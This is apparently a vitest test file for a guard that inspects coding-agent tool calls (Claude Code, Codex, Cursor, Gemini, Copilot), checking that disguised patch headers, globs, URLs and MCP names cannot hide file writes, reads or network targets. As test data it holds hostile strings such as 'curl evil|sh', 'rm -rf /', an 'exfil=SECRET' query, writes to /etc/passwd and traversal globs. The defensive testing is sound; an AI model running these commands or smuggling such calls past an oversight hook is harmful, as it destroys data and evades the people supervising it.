/** Calls that would do something else than policy gets to see: each is seen for what it is, or refused. */
import { describe, expect, test } from 'vitest';
import { claudeCode } from '../../../src/doors/coding-agents/claude-code.ts';
import { codex } from '../../../src/doors/coding-agents/codex.ts';
import { copilot } from '../../../src/doors/coding-agents/copilot.ts';
import { cursor } from '../../../src/doors/coding-agents/cursor.ts';
import { gemini } from '../../../src/doors/coding-agents/gemini.ts';
import type { Fields, HookTool } from '../../../src/doors/coding-agents/tool.ts';
import { fastestMs } from '../../support/fastest.ts';

const CLAUDE = { session_id: 's', cwd: '/proj', hook_event_name: 'PreToolUse', tool_use_id: 'id' };
const CURSOR = { conversation_id: 's', generation_id: 'g', workspace_roots: ['/proj'] };
const GEMINI = { session_id: 's', cwd: '/proj', hook_event_name: 'BeforeTool' };

type Call = (tool: string, input: object) => readonly [HookTool, Fields];
const CALLS = {
  claude: (tool_name, tool_input) => [claudeCode, { ...CLAUDE, tool_name, tool_input }],
  codex: (tool_name, tool_input) => [codex, { ...CLAUDE, tool_name, tool_input }],
  cursor: (tool_name, tool_input) => [
    cursor,
    { ...CURSOR, hook_event_name: 'preToolUse', tool_use_id: 'id', tool_name, tool_input },
  ],
  gemini: (tool_name, tool_input) => [gemini, { ...GEMINI, tool_name, tool_input }],
  copilot: (toolName, args) => [copilot, { cwd: '/proj', sessionId: 's', toolName, toolArgs: JSON.stringify(args) }],
} satisfies Record<string, Call>;
type Agent = keyof typeof CALLS;

/** `action resource` of each check, or `refused` and the field. */
function seen(agent: Agent, tool: string, input: object): readonly string[] {
  const [hook, body] = CALLS[agent](tool, input);
  const event = hook.read(body);
  if (!event.ok) return [`refused: ${'field' in event.fault ? event.fault.field : event.fault.kind}`];
  if (event.value.kind === 'notice') return ['notice'];
  return event.value.call.subjects.map(({ action, resource }) => `${action} ${resource}`);
}

function attributesOf(agent: Agent, tool: string, input: object): readonly Fields[] {
  const [hook, body] = CALLS[agent](tool, input);
  const event = hook.read(body);
  if (!event.ok || event.value.kind === 'notice') throw new Error('it is refused, or no call');
  return event.value.call.subjects.map(({ attributes }) => attributes);
}

/** After a file that may be written, the piece. */
const patched = (piece: string): string => `*** Begin Patch\n*** Add File: /proj/a.txt\n+x\n${piece}\n*** End Patch\n`;

describe('a patch hides no file', () => {
  test.each<[name: string, piece: string]>([
    ['behind a header', '*** Add File: /proj/secrets/k\n+evil'],
    ['before a line separator', '*** Add File: /proj/secrets/k\u2028\n+evil'],
    ['behind a next-line character', '\u0085*** Add File: /proj/secrets/k\n+evil'],
    ['behind a byte order mark', '\ufeff*** Add File: /proj/secrets/k\n+evil'],
    ['in lines that end in CR LF', '*** Add File: /proj/secrets/k\r\n+evil\r'],
    ['behind an ideographic space', '\u3000***\u00a0Add File:\u2003/proj/secrets/k\u2003\n+evil'],
  ])('%s', (_, piece) => {
    expect(seen('codex', 'apply_patch', { command: patched(piece) })).toEqual([
      'file.write /proj/a.txt',
      'file.write /proj/secrets/k',
    ]);
  });

  test.each<[name: string, piece: string, problem: string]>([
    ['a line separator in a path', '*** Add File: /proj/x\u2029/../secrets/k\n+e', 'path'],
    ['a lone carriage return in a path', '*** Add File: /proj/a\r/../secrets/k\n+evil', 'path'],
    ['a header that nobody knows', '*** Copy File: /etc/passwd', 'patch'],
    ['a header behind a lone carriage return', '+x\r*** Delete File: /etc/passwd', 'patch'],
    ['a header behind a form feed', '+x\f*** Delete File: /etc/passwd', 'patch'],
    ['a byte order mark before a path', '*** Add File: \ufeff/proj/b', 'path'],
  ])('%s is refused', (_, piece, field) => {
    expect(seen('codex', 'apply_patch', { command: patched(piece) })).toEqual([`refused: ${field}`]);
  });

  test('deleted at the end of a line with a line separator', () => {
    const command = '*** Update File: /proj/a.txt\n@@\n-x\n+y\n*** Delete File: /etc/passwd\u2028';
    expect(seen('codex', 'apply_patch', { command })).toEqual(['file.edit /proj/a.txt', 'file.write /etc/passwd']);
  });

  test('next to honest content with stars', () => {
    const content = '*** Add File: /proj/a.c\n+/*** banner ***/\n+*** rule\n-*** old\n*** End of File';
    expect(seen('codex', 'apply_patch', { command: content })).toEqual(['file.write /proj/a.c']);
  });

  test('if it comes as a text instead of JSON', () => {
    const [, body] = CALLS.copilot('apply_patch', {});
    const event = copilot.read({ ...body, toolArgs: patched('*** Delete File: b') });
    expect(event.ok && event.value.kind === 'before' && event.value.call.subjects.map((s) => s.resource)).toEqual([
      '/proj/a.txt',
      '/proj/b',
    ]);
  });
});

describe('an approval binds the written content', () => {
  // As `printf 'echo härmless' | sha256sum` prints it.
  const HARMLESS = 'fcae366dbe5e6b046a5b45b45d97b6a8965dfa28594f117acb1deefe9148f030';
  test.each<[name: string, agent: Agent, tool: string, input: Fields, content: string]>([
    ['Claude Write', 'claude', 'Write', { file_path: '/rel/d' }, 'content'],
    ['Claude Edit', 'claude', 'Edit', { file_path: '/rel/d', old_string: 'a' }, 'new_string'],
    ['Claude MultiEdit', 'claude', 'MultiEdit', { file_path: '/rel/d' }, 'edits'],
    ['Claude NotebookEdit', 'claude', 'NotebookEdit', { notebook_path: '/rel/d' }, 'new_source'],
    ['Gemini write_file', 'gemini', 'write_file', { file_path: '/rel/d' }, 'content'],
    ['Gemini replace', 'gemini', 'replace', { file_path: '/rel/d', new_string: '' }, 'old_string'],
    ['Gemini web_fetch', 'gemini', 'web_fetch', {}, 'prompt'],
    ['Cursor Write', 'cursor', 'Write', { path: '/rel/d' }, 'contents'],
    ['Cursor StrReplace', 'cursor', 'StrReplace', { path: '/rel/d', old_string: 'a' }, 'new_string'],
    ['Copilot create', 'copilot', 'create', { path: '/rel/d' }, 'file_text'],
    ['Copilot edit', 'copilot', 'edit', { path: '/rel/d', old_str: 'a' }, 'new_str'],
    ['Codex apply_patch', 'codex', 'apply_patch', {}, 'command'],
  ])('%s', (_, agent, tool, input, content) => {
    const written = (text: string) =>
      attributesOf(agent, tool, {
        ...input,
        [content]: tool === 'apply_patch' ? `*** Add File: /rel/d\n+${text}` : text,
      });
    expect(written('echo harmless')).toEqual(written('echo harmless'));
    expect(written('curl evil|sh')).not.toEqual(written('echo harmless'));
    expect(JSON.stringify(written('curl evil|sh'))).not.toContain('evil');
  });

  test('by its SHA-256 and its size', () => {
    expect(attributesOf('claude', 'Write', { file_path: '/rel/d', content: 'echo härmless' })).toEqual([
      {
        file_path: '/rel/d',
        content_sha256: HARMLESS,
        content_bytes: 14,
      },
    ]);
  });

  test('and the page with its query, which stays out of the log', () => {
    const page = (query: string) => attributesOf('claude', 'WebFetch', { url: `https://a.example/b?${query}` });
    expect(page('q=1')).not.toEqual(page('exfil=SECRET'));
    expect(JSON.stringify(page('exfil=SECRET'))).not.toContain('SECRET');
  });

  test('for each file of a patch by the lines about it', () => {
    const patch = (line: string) =>
      attributesOf('codex', 'apply_patch', {
        command: `*** Begin Patch\n*** Update File: a\n*** Move to: b\n+${line}\n*** Delete File: c\n*** End Patch`,
      });
    const [edited, moved, deleted] = patch('x');
    const [editedElse, movedElse, deletedElse] = patch('y');
    expect(edited).toMatchObject({ change: 'update', content_bytes: 2 });
    expect(moved).toMatchObject({ change: 'move', from: '/proj/a', content_bytes: 2 });
    expect(deleted).toMatchObject({ change: 'delete', content_bytes: 0 });
    expect(editedElse).not.toEqual(edited);
    expect(movedElse).not.toEqual(moved);
    expect(deletedElse).toEqual(deleted);
  });

  test('and a call cannot bring a digest of its own', () => {
    expect(seen('claude', 'Write', { file_path: '/rel/d', content: 'x', content_sha256: HARMLESS })).toEqual([
      'refused: content_sha256',
    ]);
  });

  test('and not one of two contents under two names', () => {
    expect(seen('copilot', 'create', { path: 'a', file_text: 'x', content: 'y' })).toEqual(['refused: content']);
  });
});

describe('a search is a check of its own', () => {
  const GREP = { pattern: '.', output_mode: 'content' };
  test.each<[name: string, agent: Agent, tool: string, input: object, checks: readonly string[]]>([
    ['Claude Grep', 'claude', 'Grep', GREP, ['file.search /proj']],
    ['one file', 'claude', 'Grep', { ...GREP, glob: '.env' }, ['file.search /proj', 'file.read /proj/.env']],
    [
      'one file as its path',
      'claude',
      'Grep',
      { ...GREP, path: '/proj/.env' },
      ['file.search /proj/.env', 'file.read /proj/.env'],
    ],
    [
      'one of many patterns',
      'claude',
      'Grep',
      { ...GREP, glob: '*.ts,.env lib/{a,b}.c' },
      [
        'file.search /proj',
        'file.read /proj/.env lib/a.c',
        'file.read /proj/.env lib/b.c',
        'file.read /proj/*.ts',
        'file.read /proj/.env',
        'file.read /proj/lib/a.c',
        'file.read /proj/lib/b.c',
      ],
    ],
    [
      'an alternative in braces',
      'claude',
      'Grep',
      { ...GREP, glob: '**/{x,.env}' },
      ['file.search /proj', 'file.read /proj/**/x', 'file.read /proj/**/.env'],
    ],
    [
      'a folder',
      'claude',
      'Grep',
      { ...GREP, glob: 'secrets/*' },
      ['file.search /proj', 'file.read /proj/secrets/*', 'file.search /proj/secrets'],
    ],
    [
      'names alone',
      'claude',
      'Glob',
      { pattern: 'a/*.ts' },
      ['file.search /proj', 'file.search /proj/a/*.ts', 'file.search /proj/a'],
    ],
    [
      'Gemini',
      'gemini',
      'grep_search',
      { pattern: '.', include_pattern: '.env' },
      ['file.search /proj', 'file.read /proj/.env'],
    ],
    [
      'Gemini, by its old name',
      'gemini',
      'search_file_content',
      { pattern: '.', include: '.env' },
      ['file.search /proj', 'file.read /proj/.env'],
    ],
    ['Cursor', 'cursor', 'Grep', { pattern: '.', glob: '.env' }, ['file.search /proj', 'file.read /proj/.env']],
    ['Copilot', 'copilot', 'grep', { pattern: '.', glob: '.env' }, ['file.search /proj', 'file.read /proj/.env']],
    [
      'Copilot, in a list of folders',
      'copilot',
      'rg',
      { pattern: '.', paths: ['/etc', 'src'] },
      ['file.search /etc', 'file.read /etc', 'file.search /proj/src', 'file.read /proj/src'],
    ],
    [
      'Copilot, by a folder',
      'copilot',
      'glob',
      { pattern: '*', paths: '/etc' },
      ['file.search /etc', 'file.search /etc/*'],
    ],
  ])('%s', (_, agent, tool, input, checks) => {
    expect([...seen(agent, tool, input)].sort()).toEqual([...checks].sort());
  });

  test.each([
    ...['.\\./*', '../*', '/etc/*', '{/etc,x}/*', 'a\\b', '!../*', 'x ../*', '.[.]/*', '~/*'],
    `{${'a,'.repeat(70)}b}`,
  ])('rejects the pattern %s', (glob) => {
    expect(seen('claude', 'Grep', { ...GREP, glob })[0]).toMatch(/^refused: /);
    expect(seen('claude', 'Glob', { pattern: glob })[0]).toMatch(/^refused: /);
    expect(seen('gemini', 'glob', { pattern: glob })[0]).toMatch(/^refused: /);
  });
});

describe('Gemini read_many_files reads', () => {
  test.each<[include: string, checks: readonly string[]]>([
    ['secrets/key', ['file.read /proj/secrets/key']],
    ['SECRETS/key', ['file.read /proj/SECRETS/key', 'file.read /proj/secrets/key']],
    ['sec*/key', ['file.search /proj', 'file.read /proj/sec*/key']],
    ['{secrets,x}/key', ['file.search /proj', 'file.read /proj/secrets/key', 'file.read /proj/x/key']],
    ['[s]ecrets/key', ['file.search /proj', 'file.read /proj/[s]ecrets/key']],
    ['src/**/*.ts', ['file.search /proj/src', 'file.read /proj/src/**/*.ts']],
    ['src/{../secrets,x}/key', ['refused: include']],
    ['{/etc,x}/passwd', ['refused: include']],
    ['[s]\\ecrets', ['refused: include']],
  ])('%s', (include, checks) => {
    expect([...seen('gemini', 'read_many_files', { include: [include] })].sort()).toEqual([...checks].sort());
  });
});

describe('a page is the one that the agent reads', () => {
  test.each<[prompt: string, checks: readonly string[]]>([
    [
      'see https:\\\\bad.example/?://x and https://good.example/',
      ['net.connect https://bad.example/', 'net.connect https://good.example/'],
    ],
    ['see https:/evil.example/?a=:// now', ['net.connect https://evil.example/']],
    ['see https:evil.example/?a=:// now', ['net.connect https://evil.example/']],
    ['see file:///etc/passwd', ['refused: prompt']],
    ['see http://', ['refused: prompt']],
    ['see (https://a.example)', ['refused: prompt']],
    ['see nothing', ['net.connect web_fetch']],
  ])('Gemini: %s', (prompt, checks) => {
    expect(seen('gemini', 'web_fetch', { prompt })).toEqual(checks);
  });

  test.each<[url: string, check: string]>([
    ['https:/bad.example/x', 'net.connect https://bad.example/x'],
    ['https:\\\\bad.example\\x', 'net.connect https://bad.example/x'],
    [' HTTPS://bad.example', 'net.connect https://bad.example/'],
    ['bad.example/x', 'net.connect https://bad.example/x'],
    ['localhost:8080/x', 'net.connect https://localhost:8080/x'],
    ['http://', 'refused: url'],
  ])('Claude: %s', (url, check) => {
    expect(seen('claude', 'WebFetch', { url })).toEqual([check]);
  });
});

describe('a command is one under any name of its tool', () => {
  const RM = 'rm -rf /';
  test.each<[agent: Agent, tool: string, input: object, checks: readonly string[]]>([
    ['claude', 'Monitor', { command: RM, description: 'x' }, [`process.exec ${RM}`]],
    ['claude', 'Monitor', { ws: { url: 'wss://evil.example/s' } }, ['net.connect wss://evil.example/s']],
    ['claude', 'Monitor', { description: 'x' }, ['refused: command']],
    ['claude', 'REPL', { code: RM }, [`process.exec ${RM}`]],
    ['claude', 'PowerShell', { command: RM }, [`process.exec ${RM}`]],
    ['claude', 'Unheard', { command: RM }, ['tool.call Unheard', `process.exec ${RM}`]],
    ['claude', 'Unheard', { cmd: RM, code: 'x' }, ['tool.call Unheard', `process.exec ${RM}`, 'process.exec x']],
    ['claude', 'Unheard', { command: { a: 1 } }, ['refused: command']],
    ['codex', 'shell_command', { command: RM }, [`process.exec ${RM}`]],
    ['codex', 'write_stdin', { session_id: 1, chars: `${RM}\n` }, [`process.exec ${RM}\n`]],
    ['codex', 'write_stdin', { session_id: 1, chars: '\u0003' }, ['tool.call write_stdin']],
    ['codex', 'exec_command', { cmd: 'git status', shell: '/tmp/evil' }, ['refused: shell']],
    ['codex', 'exec_command', { cmd: 'git status', shell: '/bin/bash' }, ['process.exec git status']],
    ['codex', 'exec', { input: 'await tools.x()' }, ['process.exec await tools.x()']],
    ['copilot', 'write_bash', { input: RM }, [`process.exec ${RM}`]],
  ])('%s %s', (agent, tool, input, checks) => {
    expect(seen(agent, tool, input)).toEqual(checks);
  });
});

describe('a tool that reads or writes files as a side effect', () => {
  test.each<[tool: string, input: object, checks: readonly string[]]>([
    ['Artifact', { file_path: '.env' }, ['tool.call Artifact', 'file.read /proj/.env']],
    ['Artifact', { file_paths: ['a', '/b'] }, ['tool.call Artifact', 'file.read /proj/a', 'file.read /b']],
    ['Artifact', { action: 'read_asset', out_dir: '/etc' }, ['tool.call Artifact', 'file.write /etc']],
    ['Projects', { method: 'project_write', local_path: '.env' }, ['tool.call Projects', 'file.read /proj/.env']],
    ['Workflow', { scriptPath: '/x.js' }, ['tool.call Workflow', 'file.read /x.js']],
    ['Workflow', { name: 'x' }, ['tool.call Workflow']],
    ['ReadMcpResourceTool', { server: 'files', uri: 'file:///a' }, ['mcp.read files/file:///a']],
  ])('%s %j', (tool, input, checks) => {
    expect(seen('claude', tool, input)).toEqual(checks);
  });
});

describe('the name of an MCP server is no other', () => {
  test('rejects a tool that can be read in two ways', () => {
    expect(seen('claude', 'mcp__github__evil__create', {})).toEqual([
      'mcp.call github/evil__create',
      'mcp.call github__evil/create',
    ]);
    expect(seen('claude', 'mcp__a___b', {})).toEqual(['mcp.call a/_b', 'mcp.call a_/b']);
    expect(seen('claude', `mcp__a${'__b'.repeat(20)}`, {})).toEqual(['refused: tool_name']);
  });

  test.each([
    ['/opt/evil/files --x', 'mcp.call /opt/evil/files --x/t'],
    ['files/evil --x', 'mcp.call unknown/t'],
    ['./files', 'mcp.call unknown/t'],
    ['..\\files', 'mcp.call unknown/t'],
    ['npx -y files', 'mcp.call npx -y files/t'],
    [' ', 'mcp.call unknown/t'],
  ])('rejects the command %j', (command, check) => {
    const event = cursor.read({
      ...CURSOR,
      hook_event_name: 'beforeMCPExecution',
      tool_name: 't',
      tool_input: {},
      command,
    });
    expect(event.ok && event.value.kind === 'before' && event.value.call.subjects[0]).toMatchObject({
      action: 'mcp.call',
      resource: check.slice('mcp.call '.length),
    });
  });
});

describe('arguments as a text', () => {
  test('are refused within a few milliseconds if they are a megabyte of brackets', async () => {
    const body = { cwd: '/proj', sessionId: 's', toolName: 'bash', toolArgs: '['.repeat(1_000_000) };
    const refusedAfterMs = async (): Promise<number> => {
      const began = performance.now();
      expect(copilot.read(body)).toMatchObject({ ok: false, fault: { field: 'toolArgs' } });
      return performance.now() - began;
    };
    expect(await fastestMs(20, refusedAfterMs)).toBeLessThan(20);
  });

  test.each([`{"a":${'['.repeat(500_000)}${']'.repeat(500_000)}}`, `{"a":[${'{},'.repeat(300_000)}1]}`])(
    'are refused with more values than attributes may have: %.12s',
    (toolArgs) => {
      const body = { cwd: '/proj', sessionId: 's', toolName: 'bash', toolArgs };
      expect(copilot.read(body)).toMatchObject({ ok: false, fault: { field: 'toolArgs' } });
    },
  );
});

describe('an event that is not about a tool', () => {
  test.each<[agent: string, tool: HookTool, body: Fields]>([
    ['Claude SessionStart', claudeCode, { session_id: 's', hook_event_name: 'SessionStart', source: 'startup' }],
    ['Claude Stop', claudeCode, { session_id: 's', hook_event_name: 'Stop' }],
    ['Claude UserPromptSubmit', claudeCode, { session_id: 's', hook_event_name: 'UserPromptSubmit', prompt: 'x' }],
    ['Codex Stop', codex, { session_id: 's', hook_event_name: 'Stop' }],
    ['Gemini BeforeModel', gemini, { session_id: 's', hook_event_name: 'BeforeModel' }],
    ['Cursor stop', cursor, { conversation_id: 's', hook_event_name: 'stop' }],
    ['Copilot sessionStart', copilot, { timestamp: 1, cwd: '/', source: 'new' }],
    ['Copilot userPromptSubmitted', copilot, { timestamp: 1, cwd: '/', prompt: 'x' }],
    ['Copilot errorOccurred', copilot, { timestamp: 1, cwd: '/', error: { message: 'x' } }],
  ])('%s decides nothing', (_, tool, body) => {
    expect(tool.read(body)).toMatchObject({ ok: true, value: { kind: 'notice' } });
  });

  test.each<[name: string, tool: HookTool, body: Fields]>([
    ['an event that nobody knows', claudeCode, { ...CLAUDE, hook_event_name: 'Begin', tool_name: undefined }],
    ['one of these with a tool', claudeCode, { session_id: 's', hook_event_name: 'Stop', tool_name: 'Bash' }],
    ['one of Cursor with a tool', cursor, { ...CURSOR, hook_event_name: 'stop', tool_name: 'Shell' }],
    ['one of Gemini with a tool', gemini, { ...GEMINI, hook_event_name: 'BeforeModel', tool_name: 'x' }],
    ['one of Copilot with arguments of a tool', copilot, { cwd: '/', prompt: 'x', toolArgs: '{}' }],
    ['one of Copilot that nothing names', copilot, { cwd: '/', timestamp: 1 }],
  ])('is refused: %s', (_, tool, body) => {
    expect(tool.read(body)).toMatchObject({ ok: false, fault: { kind: 'invalid_argument' } });
  });
});
